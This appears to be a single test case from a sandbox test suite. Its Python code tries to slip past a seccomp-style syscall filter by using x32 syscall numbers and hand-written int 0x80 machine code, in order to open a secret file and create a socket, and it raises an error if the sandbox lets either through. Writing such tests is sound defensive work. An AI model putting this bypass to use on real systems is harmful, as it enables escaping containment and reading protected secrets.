# attack: secret_by_another_door_of_the_kernel
# kind: read
# tries: calls the kernel as a 32-bit program would, whose calls have other numbers than those that a filter may know
# seen: an exception that holds what was read
# deserves: nothing
# extra: before 3.2a
# %%
import ctypes, mmap, os

path = os.fsencode(r"{secret}") + b'\0'
if os.uname().machine == 'x86_64':
    # the numbers of x32: the same calls with a bit set
    found = ctypes.CDLL(None).syscall(0x4000_0002, path, 0)
    # int 0x80 takes addresses of 32 bits, so the code and the name lie low
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
    page[:11] = bytes.fromhex('53 89f8 89f3 87d1 cd80 5b c3')
    page[64:64 + len(path)] = path
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(start)
    if found < 0:
        found = call(5, start + 64, 0, 0)  # open
    if found >= 0:
        raise RuntimeError(f"FELL: read {os.read(found, 999)!r}")
    if call(359, 2, 1, 0) >= 0:  # socket
        raise RuntimeError("FELL: a socket by a 32-bit call")
